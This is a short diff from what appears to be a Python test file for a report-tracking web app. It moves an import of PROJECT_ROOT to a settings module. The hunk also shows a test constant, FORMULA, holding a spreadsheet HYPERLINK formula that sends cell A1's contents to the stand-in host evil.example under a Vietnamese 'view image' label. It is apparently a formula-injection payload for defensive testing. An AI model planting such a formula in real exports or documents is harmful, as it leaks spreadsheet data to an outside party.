@@ -14,9 +14,9 @@ import requests
 from reports.accounts.api_keys import create_api_key
 from reports.models import Report
 from reports.workflow.lifecycle import get_by_tracking_code
+from settings import PROJECT_ROOT
 from store import db
 from tests.helpers import KIM_LONG, login, make_report
-from webapp.config import PROJECT_ROOT
 from webapp.extensions import limiter
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Xem ảnh")'
